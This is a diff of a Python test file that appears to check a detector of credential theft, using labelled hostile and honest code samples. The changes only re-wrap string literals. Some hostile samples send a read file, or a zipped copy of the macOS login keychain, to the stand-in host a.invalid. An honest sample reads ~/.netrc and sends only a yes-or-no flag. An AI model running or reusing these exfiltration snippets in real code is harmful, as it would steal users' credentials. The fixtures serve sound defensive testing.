@@ -56,8 +56,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    requests.post('https://a.invalid', data=path.read_bytes())\n",
         ),
         "an archive in a buffer that an object keeps": py(
-            "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n        self.buffer = io.BytesIO()\n"
-            "    def fill(self):\n        with zipfile.ZipFile(self.buffer, 'w') as box:\n"
+            "import io, os, zipfile, requests\nclass Report:\n    def __init__(self):\n"
+            "        self.buffer = io.BytesIO()\n    def fill(self):\n"
+            "        with zipfile.ZipFile(self.buffer, 'w') as box:\n"
             "            box.write(os.path.expanduser('~/Library/Keychains/login.keychain-db'))\n"
             "    def send(self):\n        requests.post('https://a.invalid', data=self.buffer.getvalue())\n",
             line=9,
@@ -112,7 +113,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a report written to a connection": {
             "app.js": "const fs = require('fs'), os = require('os'), net = require('net');\n"
             "fs.readFile(os.homedir() + '/.netrc', (failed, data) => {\n"
-            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(failed ? 'no' : 'yes');\n  });\n});\n"
+            "  const peer = net.connect(9001, 'a.invalid', () => {\n    peer.write(failed ? 'no' : 'yes');\n  });\n"
+            "});\n"
         },
         "a file of the project that a chat library opens": {
             "app.py": "import discord\nclient = discord.Client()\nroom = client.get_channel(1)\n"
